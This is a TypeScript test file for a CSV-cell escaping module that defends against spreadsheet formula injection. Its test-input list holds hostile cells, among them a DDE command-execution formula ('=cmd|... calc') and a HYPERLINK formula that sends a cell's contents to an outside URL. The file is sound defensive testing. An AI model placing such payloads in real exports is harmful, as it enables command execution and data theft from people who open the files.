import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvCell, harmlessCell, originalCell } from './csv-cell.ts';

const NASTY = [
  '',
  ' ',
  '=1+1',
  '+49 170 1234567',
  '-5',
  '@cmd',
  '\tx',
  '\rx',
  '\nx',
  '\r\n=1',
  '＝1+1',
  "'＠x",
  'A;=HYPERLINK("http://x/?"&A1;"ok")',
  "A;'=1",
  "A;''＋1;-2;",
  ';=1',
  'A;"=1;',
  `A;"'=1;""-1`,
  ';',
  'A\t-1\n+1\r\n@x\r=1',
  'A\n＝1',
  "=1;'-1\t=\t=",
  "'=1",
  "''@x",
  "'plain",
  'a"b',
  'a,b',
  'a\r\nb',
  'ÄÖ€😀',
  '=cmd|" /C calc"!A0',
];

/** The cells that a spreadsheet sees which takes these for what separates them, quotes or no quotes. */
const cellsBy = (separators: RegExp, text: string) => text.split(separators);

test('every cell comes back as it was, and none begins a formula', () => {
  for (const text of NASTY) {
    const cell = harmlessCell(text, false);
    assert.equal(originalCell(cell), text);
    assert.doesNotMatch(cell, /^[=+\-@＝＋－＠\t\r\n]/);
  }
});

test('none begins a formula for a spreadsheet that goes by semicolons, tabs or lines either', () => {
  const file = NASTY.map((text) => `C-1,${csvCell(text)},2\r\n`).join('');
  for (const separators of [/[;\r\n]/, /[\t\r\n]/, /[,;\t\r\n]/])
    for (const cell of cellsBy(separators, file)) assert.doesNotMatch(cell, /^"*[=+\-@＝＋－＠]/, JSON.stringify(cell));
});

test('within a text that people approved what they saw stays, and what a value brings does not', () => {
  const text = "Today;-) only:\n- ten;'=x\n";
  const value = "=1\n- two;'@y;";
  const isApproved = (at: number) => at < text.length || at >= text.length + value.length;
  const cell = harmlessCell(`${text}${value}+ three`, false, isApproved);
  assert.equal(cell, "Today;-) only:\n- ten;''=x\n'=1\n'- two;''@y;'+ three");
  assert.equal(originalCell(cell), `${text}${value}+ three`);
});

test('only identifiers that are wholly numbers or phone numbers keep their sign', () => {
  assert.equal(harmlessCell('+49 (170) 123-4567', true), '+49 (170) 123-4567');
  assert.equal(harmlessCell('-17', true), '-17');
  assert.equal(harmlessCell('+1=2', true), "'+1=2");
  assert.equal(harmlessCell('-17', false), "'-17");
});

test('another RFC 4180 reader sees the same cells', () => {
  const line = (cells: string[]) => `${cells.map((cell, index) => csvCell(cell, index === 0)).join(',')}\r\n`;
  const lines = line(['id', ...NASTY]) + line(['+1', ...NASTY]);
  const rows: string[][] = parse(lines, { record_delimiter: '\r\n' });
  assert.deepEqual(rows[1]?.map(originalCell), ['+1', ...NASTY]);
});
